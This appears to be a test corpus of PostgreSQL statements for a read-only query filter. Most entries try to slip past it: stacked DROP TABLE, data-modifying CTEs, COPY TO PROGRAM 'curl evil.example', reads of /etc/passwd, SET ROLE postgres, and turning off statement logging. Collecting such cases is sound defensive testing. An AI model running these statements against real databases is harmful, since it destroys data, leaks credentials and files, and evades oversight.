SELECT 1;DROP TABLE x
====
SELECT/**/1;/**/DROP/**/TABLE/**/x
====
dRoP tAbLe customers
====
DELETE FROM customers
====
dElEtE/* x */FrOm/**/"customers"
====
/* SELECT */ DELETE FROM customers -- SELECT
====
SELECT 1 /* /* */ */ ; DROP TABLE x; -- */
====
SELECT 1 --
; DROP TABLE x
====
SELECT ''';DROP TABLE x;--'; DROP TABLE x
====
SELECT '\'; DROP TABLE x; --'
====
SELECT E'\\\\'; DROP TABLE x; --'
====
SELECT e'\\'; DROP TABLE x; --'
====
SELECT U&'\0027; DROP TABLE x; --'
====
SELECT * FROM U&"s\0061laries"
====
SELECT * FROM u&"!0073alaries" UESCAPE '!'
====
SELECT $$; $$; DROP TABLE x; --$$
====
SELECT $a$ $b$ ; $a$; DROP TABLE x
====
SELECT <NUL>1; DROP TABLE x
====
SELECT '<NUL>'; DROP TABLE x
====
SELECT 'unbalanced; DROP TABLE x
====
SELECT "unbalanced; DROP TABLE x
====
WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d
====
WITH i AS (INSERT INTO customers VALUES (1) RETURNING id) SELECT * FROM customers
====
WITH u AS (UPDATE customers SET name = 'x' RETURNING 1) SELECT 1
====
WITH a AS (SELECT 1), d AS MATERIALIZED (DELETE FROM customers RETURNING 1) SELECT * FROM a
====
SELECT * FROM (WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d) q
====
EXPLAIN ANALYZE DELETE FROM customers
====
EXPLAIN (ANALYZE) DELETE FROM customers
====
EXPLAIN (COSTS off, ANALYZE on) UPDATE customers SET name = 'x'
====
explain/**/analyze/**/delete from customers
====
SELECT * INTO evil FROM customers
====
SELECT * INTO TEMP TABLE evil FROM customers
====
CREATE TABLE evil AS SELECT * FROM customers
====
SELECT * FROM customers FOR UPDATE
====
SELECT * FROM customers FOR NO KEY UPDATE OF customers
====
SELECT * FROM customers FOR SHARE
====
DO 'BEGIN DELETE FROM customers; END'
====
DO $$ BEGIN DELETE FROM customers; END $$
====
DO LANGUAGE plpgsql 'BEGIN DELETE FROM customers; END'
====
COPY customers TO PROGRAM 'curl evil.example'
====
COPY (SELECT * FROM customers) TO '/tmp/x'
====
COPY customers FROM PROGRAM 'cat /etc/passwd'
====
COPY customers FROM STDIN
====
COPY salaries TO STDOUT
====
COPY public.salaries (name, amount) TO STDOUT WITH (FORMAT binary)
====
COPY (SELECT * FROM salaries) TO STDOUT
====
COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT
====
COPY (DELETE FROM customers RETURNING *) TO STDOUT
====
COPY (WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d) TO STDOUT
====
PREPARE p AS DELETE FROM customers
====
EXECUTE p
====
DEALLOCATE ALL
====
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM salaries
====
FETCH ALL FROM c
====
MOVE 10 IN c
====
CALL wipe()
====
SET ROLE postgres
====
SET SESSION AUTHORIZATION postgres
====
set local role to postgres
====
SET "ROLE" = postgres
====
RESET ROLE
====
RESET ALL
====
DISCARD ALL
====
SET search_path = evil
====
SET search_path TO evil, pg_catalog
====
SET standard_conforming_strings = off
====
SET client_encoding = 'SJIS'
====
SET NAMES 'BIG5'
====
SET session_replication_role = replica
====
SET default_transaction_read_only = off
====
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
====
SET application_name = 'x'; DROP TABLE x
====
SELECT set_config('role', 'postgres', false)
====
SELECT pg_catalog.set_config('search_path', 'evil', false)
====
SELECT "set_config"('role', 'postgres', false)
====
SELECT pg_catalog . set_config ('role', 'postgres', false)
====
SELECT nextval('customers_id_seq')
====
SELECT setval('customers_id_seq', 1)
====
SELECT lo_unlink(1)
====
SELECT lo_export(1, '/tmp/x')
====
SELECT pg_read_file('/etc/passwd')
====
SELECT pg_ls_dir('/')
====
SELECT pg_sleep(3600)
====
SELECT pg_terminate_backend(pid) FROM customers
====
SELECT pg_reload_conf()
====
SELECT dblink_exec('host=x', 'DROP TABLE x')
====
SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)
====
SELECT query_to_xml('DELETE FROM customers', true, true, '')
====
SELECT table_to_xml('salaries', true, true, '')
====
SELECT database_to_xml(true, true, '')
====
SELECT cursor_to_xml('c', 1, true, true, '')
====
SELECT id FROM customers WHERE wipe(id)
====
SELECT id FROM customers ORDER BY wipe(id)
====
SELECT id FROM customers GROUP BY id HAVING wipe(id)
====
SELECT id FROM customers LIMIT wipe(1)
====
SELECT count(*) FILTER (WHERE wipe(id)) FROM customers
====
SELECT sum(id) OVER (ORDER BY wipe(id)) FROM customers
====
SELECT CASE WHEN true THEN wipe(1) END
====
SELECT ARRAY[wipe(1)]
====
SELECT (wipe(1))
====
SELECT evil.count(1)
====
SELECT public.lower('x')
====
SELECT "public"."lower"('x')
====
SELECT * FROM wipe()
====
SELECT * FROM customers, wipe() w
====
SELECT * FROM customers CROSS JOIN LATERAL wipe(id) w
====
SELECT * FROM ROWS FROM (wipe()) x
====
SELECT * FROM salaries
====
SELECT * FROM public.salaries
====
SELECT * FROM "salaries"
====
SELECT * FROM "Customers"
====
SELECT * FROM customers, salaries
====
SELECT * FROM customers JOIN salaries ON true
====
SELECT * FROM customers NATURAL JOIN salaries
====
SELECT * FROM customers c, LATERAL (SELECT * FROM salaries) s
====
SELECT * FROM (customers CROSS JOIN salaries)
====
SELECT * FROM ((SELECT * FROM salaries)) s
====
SELECT * FROM customers WHERE id IN (SELECT id FROM salaries)
====
SELECT * FROM customers WHERE EXISTS (SELECT FROM salaries)
====
SELECT * FROM customers WHERE id = ANY (SELECT id FROM salaries)
====
SELECT * FROM customers WHERE id = ANY (ARRAY(SELECT id FROM salaries))
====
SELECT (SELECT amount FROM salaries LIMIT 1) FROM customers
====
SELECT * FROM customers ORDER BY (SELECT amount FROM salaries LIMIT 1)
====
SELECT * FROM customers LIMIT (SELECT amount FROM salaries LIMIT 1)
====
SELECT * FROM customers OFFSET (SELECT 1 FROM salaries)
====
SELECT * FROM customers GROUP BY id, (SELECT 1 FROM salaries)
====
SELECT sum(1) OVER (PARTITION BY (SELECT 1 FROM salaries)) FROM customers
====
SELECT coalesce((SELECT 1 FROM salaries), 1)
====
SELECT ((((SELECT 1 FROM salaries))))
====
SELECT * FROM customers UNION SELECT * FROM salaries
====
SELECT * FROM customers UNION (SELECT * FROM salaries)
====
SELECT * FROM customers EXCEPT ALL SELECT * FROM salaries
====
(SELECT * FROM customers) INTERSECT (SELECT * FROM salaries)
====
VALUES ((SELECT amount FROM salaries LIMIT 1))
====
SELECT * FROM (VALUES ((SELECT amount FROM salaries LIMIT 1))) v
====
TABLE salaries
====
SELECT * FROM (TABLE salaries) s
====
WITH s AS (TABLE salaries) SELECT * FROM s
====
SELECT * FROM ONLY salaries
====
SELECT * FROM ONLY (salaries)
====
SELECT * FROM salaries *
====
SELECT * FROM salaries TABLESAMPLE system (100)
====
SELECT FROM salaries
====
SELECT salaries FROM salaries
====
SELECT DISTINCT FROM salaries
====
SELECT extract(epoch FROM now()) FROM salaries
====
SELECT 1 IS DISTINCT FROM 2 FROM salaries
====
SELECT trim('x' FROM name) FROM salaries
====
SELECT substring((SELECT name FROM salaries) FROM 1 FOR 2)
====
WITH customers AS (SELECT * FROM salaries) SELECT * FROM customers
====
WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries
====
WITH a AS (SELECT * FROM salaries), salaries AS (SELECT 1) SELECT * FROM a
====
WITH RECURSIVE t AS (SELECT * FROM salaries UNION ALL SELECT * FROM t) SELECT * FROM t
====
WITH customers AS (SELECT 1) SELECT * FROM (WITH salaries AS (SELECT 1) SELECT 2) q, salaries
====
SELECT * FROM customers, (WITH salaries AS (SELECT 1) SELECT * FROM salaries) q, salaries
====
INSERT INTO customers TABLE salaries
====
INSERT INTO customers SELECT * FROM customers
====
INSERT INTO customers DEFAULT VALUES
====
UPDATE customers SET name = 'x' WHERE id = 1
====
MERGE INTO customers USING customers c ON false WHEN NOT MATCHED THEN INSERT VALUES (1)
====
TRUNCATE customers
====
TRUNCATE TABLE ONLY customers CASCADE
====
ALTER TABLE customers DISABLE ROW LEVEL SECURITY
====
ALTER SYSTEM SET log_statement = 'none'
====
ALTER ROLE bot SUPERUSER
====
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
====
CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END
====
CREATE RULE r AS ON SELECT TO customers DO INSTEAD DELETE FROM customers
====
CREATE TRIGGER t BEFORE INSERT ON customers EXECUTE FUNCTION f()
====
CREATE OR REPLACE VIEW customers AS SELECT * FROM salaries
====
CREATE TEMP VIEW customers AS SELECT * FROM salaries
====
CREATE EXTENSION dblink
====
CREATE SCHEMA customers
====
GRANT ALL ON customers TO public
====
REVOKE ALL ON customers FROM bot
====
COMMENT ON TABLE customers IS 'x'
====
LOCK TABLE customers
====
LOCK customers IN ACCESS EXCLUSIVE MODE
====
VACUUM FULL customers
====
ANALYZE customers
====
CLUSTER customers
====
REINDEX TABLE customers
====
REFRESH MATERIALIZED VIEW customers
====
NOTIFY customers, 'x'
====
LISTEN customers
====
CHECKPOINT
====
LOAD 'evil'
====
IMPORT FOREIGN SCHEMA x FROM SERVER s INTO public
====
SECURITY LABEL ON TABLE customers IS 'x'
====
REASSIGN OWNED BY a TO b
====
DROP OWNED BY a
====
COMMIT; DELETE FROM customers
====
COMMIT
====
ROLLBACK
====
PREPARE TRANSACTION 'x'
====
COMMIT PREPARED 'x'
====
BEGIN; DELETE FROM customers; COMMIT
====
BEGIN READ WRITE
====
SELECT 1 \; DROP TABLE x
====
SELECT 1 \g
====
SELECT * FROM customers WHERE name = 'x' OR 1=1; UPDATE customers SET name = name
====
SELECT 1 OPERATOR(evil.+) 2
====
SELECT 1 OPERATOR(public.@#@) 2
====
SELECT * FROM customers WHERE data OPERATOR(public.?) 'x'
====
SELECT B'1', * FROM salaries
====
SELECT x.* FROM customers AS x(a, b), salaries
====
SELECT*FROM"salaries"
====
SELECT(1)FROM(salaries)
====
SELECT 1FROM salaries
====
SELECT 1.FROM salaries
====
SELECT+1FROM/**/salaries
====
SELECT'x'FROM salaries
====
SELECT	id
FROMsalaries
====
SELECT * FROM salaries
====
ＳＥＬＥＣＴ * FROM salaries
====
SELECT * FROM salаries
====
SELECT * FROM pg_catalog.pg_authid
====
SELECT * FROM pg_shadow
====
SELECT * FROM information_schema.tables
====
SELECT customers.* FROM customers, pg_stats
====
SELECT 'salaries'::regclass; DELETE FROM customers
====
SELECT xmlparse(document '<a/>')
====
SELECT * FROM xmltable('/a' passing '<a/>' columns x int)
====
SELECT * FROM json_table('{}', '$' COLUMNS (x int)), salaries
====
SELECT GROUPING(id) FROM salaries GROUP BY GROUPING SETS ((id), ())
====
SELECT INTO evil FROM customers
====
SELECT id INTO salaries
====
SHOW x; DELETE FROM customers
====
begin; explain (analyze) insert into customers values (1); rollback
====
EXPLAIN ("analyze") DELETE FROM customers
====
EXPLAIN ("ANALYZE" true) DELETE FROM customers
====
EXPLAIN (analyze 'on') DELETE FROM customers
====
EXPLAIN DELETE FROM customers
====
EXPLAIN (serialize text, "analyze") UPDATE customers SET name = 'x'
====
SELECT ('tickets'::regclass).nextval
====
SELECT (1).purge FROM customers
====
SELECT (ARRAY[1])[1].purge FROM customers
====
SELECT $1.purge FROM customers
====
SELECT id FROM customers WHERE (id).purge = 1
====
SELECT id FROM customers ORDER BY (customers).refund
====
PREPARE p AS SELECT * FROM salaries
====
PREPARE p AS DELETE FROM customers
====
PREPARE p AS SELECT id FROM customers; EXECUTE p; EXECUTE q
====
EXECUTE p
====
EXECUTE p((SELECT max(id) FROM salaries))
====
EXPLAIN ANALYZE EXECUTE p
====
CREATE TABLE x AS EXECUTE p
====
DECLARE c CURSOR FOR SELECT * FROM salaries
====
DECLARE c CURSOR FOR SELECT id FROM customers FOR UPDATE
====
DECLARE c CURSOR FOR SELECT pg_read_file('x')
====
FETCH ALL FROM c
====
MOVE ALL FROM c
====
FETCH ALL FROM "<unnamed portal 1>"
====
CALL p()
====
CALL customers()
====
DO $$BEGIN DELETE FROM customers; END$$
====
DO LANGUAGE plpgsql 'BEGIN END'
====
CREATE VIEW customers AS SELECT * FROM salaries
====
CREATE RULE r AS ON SELECT TO customers DO INSTEAD SELECT * FROM salaries
====
ALTER TABLE salaries RENAME TO customers
====
ALTER TABLE other.customers SET SCHEMA public
====
COMMENT ON TABLE customers IS 'x'
====
LOCK customers
====
VACUUM customers
====
ANALYZE customers
====
NOTIFY customers
====
LISTEN customers
====
UNLISTEN *
====
DEALLOCATE ALL
====
CLOSE c
====
SECURITY LABEL ON TABLE customers IS 'x'
====
GRANT SELECT ON customers TO public
====
TRUNCATE customers
====
REFRESH MATERIALIZED VIEW customers
====
CREATE FUNCTION lower(customers) RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT 1; DELETE FROM customers; END
====
CREATE SCHEMA s CREATE TABLE t (x int)
====
PREPARE p AS SELECT * FROM salaries; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; DEALLOCATE p; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; DEALLOCATE ALL; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; EXECUTE p (nextval('s'))
====
PREPARE p AS SELECT id FROM customers; EXECUTE "P"
====
PREPARE p AS SELECT id FROM customers; PREPARE p AS SELECT * FROM salaries; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; EXPLAIN ANALYZE EXECUTE q
====
DECLARE c CURSOR FOR SELECT id FROM customers; CLOSE c; FETCH c
====
DECLARE c CURSOR FOR SELECT id FROM customers; FETCH d
====
PREPARE c AS SELECT id FROM customers; FETCH c
====
PREPARE p AS SELECT id FROM customers; SELECT evil(); EXECUTE p
====
DO 'begin perform id from salaries; end'
====
DO 'begin perform id from customers; end'
====
DO 'declare r salaries := (select s from salaries s); begin null; end'
====
DO 'begin null; end'; DO LANGUAGE plperl 'x'
====
DO $a$begin execute $b$drop table customers$b$; end$a$
====
DO 'begin commit; end'
